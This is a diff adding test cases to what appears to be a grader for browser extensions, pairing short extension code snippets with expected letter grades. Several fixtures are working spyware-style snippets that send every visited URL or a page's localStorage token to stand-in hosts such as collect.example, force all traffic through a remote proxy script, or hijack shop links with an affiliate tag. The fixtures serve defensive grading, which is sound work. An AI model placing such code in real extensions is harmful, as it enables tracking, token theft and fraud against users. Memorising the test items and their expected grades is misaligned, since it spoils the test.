@@ -126,6 +126,84 @@ describe('the grade of what sends data', () => {
       ['A+', 'A'],
     ],
     [
+      'every address, by a class that is told its server',
+      {
+        background:
+          "class Line { #q = []; constructor(base) { this.base = base; } log(x) { this.#q.push(x); if (this.#q.length > 5) this.flush(); } async flush() { const q = this.#q.splice(0); await fetch(this.base + '/events', { method: 'POST', body: JSON.stringify(q) }); } } const line = new Line('https://collect.example'); chrome.tabs.onActivated.addListener(async ({ tabId }) => { const tab = await chrome.tabs.get(tabId); line.log({ u: tab.url }); });",
+      },
+      ['F'],
+    ],
+    [
+      'every address, by a helper that is given the server',
+      {
+        background:
+          "const post = (to, body) => fetch(`${to}/v`, { method: 'POST', body }); chrome.tabs.onUpdated.addListener((id, info, tab) => post('https://collect.example', tab.url));",
+      },
+      ['F'],
+    ],
+    [
+      'every address, to one of several servers out of a list',
+      {
+        background:
+          "const servers = ['https://a.collect.example', 'https://b.collect.example']; chrome.tabs.onUpdated.addListener((id, info, tab) => fetch(servers[Math.floor(Math.random() * 2)], { method: 'POST', body: tab.url }));",
+      },
+      ['F'],
+    ],
+    [
+      'a helper for several servers: each gets what is handed over with it',
+      {
+        background:
+          "const post = (to, body) =>\n  fetch(to, { method: 'POST', body });\nchrome.runtime.onStartup.addListener(() =>\n  post('https://stranger.example/ping', 'hello'));\nchrome.tabs.onUpdated.addListener((id, info, tab) =>\n  post('https://api.notes.example/seen', tab.title));",
+        manifest: { homepage_url: 'https://notes.example/' },
+      },
+      ['A+', 'A', 'B', 'C'],
+    ],
+    [
+      'the storage of a page, through a frame that is made for it',
+      {
+        content:
+          "const f = document.createElement('iframe'); document.body.append(f); fetch('https://collect.example/t', { method: 'POST', body: f.contentWindow.localStorage.token });",
+      },
+      ['F'],
+    ],
+    [
+      'what a person types into a box of the extension',
+      {
+        content:
+          "const d = document.createElement('div'); d.innerHTML = '<input id=q>'; document.body.append(d); d.querySelector('#q').oninput = (e) => { fetch('https://api.notes.example/find?q=' + e.target.value); };",
+      },
+      ['A+', 'A'],
+    ],
+    [
+      'what is typed, to a server that the person set',
+      {
+        content:
+          "document.addEventListener('input', (e) => { if (e.target.matches('textarea')) later(e.target.value); }); let timer; function later(text) { clearTimeout(timer); timer = setTimeout(() => chrome.runtime.sendMessage({ text }), 500); }",
+        background:
+          "chrome.runtime.onMessage.addListener((m) => { chrome.storage.sync.get({ server: 'http://localhost:8081' }, ({ server }) => fetch(server + '/check', { method: 'POST', body: m.text })); });",
+        popup:
+          "document.querySelector('#b').onclick = () => chrome.storage.sync.set({ server: document.querySelector('#b').value });",
+      },
+      ['A+', 'A'],
+    ],
+    [
+      'all traffic through what a server says',
+      {
+        background:
+          "fetch('https://pac.example/pac').then((r) => r.text()).then((data) => chrome.proxy.settings.set({ value: { mode: 'pac_script', pacScript: { data } }, scope: 'regular' }));",
+        manifest: { permissions: ['proxy'] },
+      },
+      ['D', 'F'],
+    ],
+    [
+      'its own name on the links of a shop',
+      {
+        content:
+          "document.addEventListener('click', (e) => { const a = e.target.closest('a'); if (a.hostname.endsWith('amazon.com')) { const u = new URL(a.href); u.searchParams.set('tag', 'mine-20'); a.href = u; } }, true);",
+      },
+      ['D', 'F'],
+    ],
+    [
       'all cookies over a socket that is kept as a property of the window',
       {
         background:
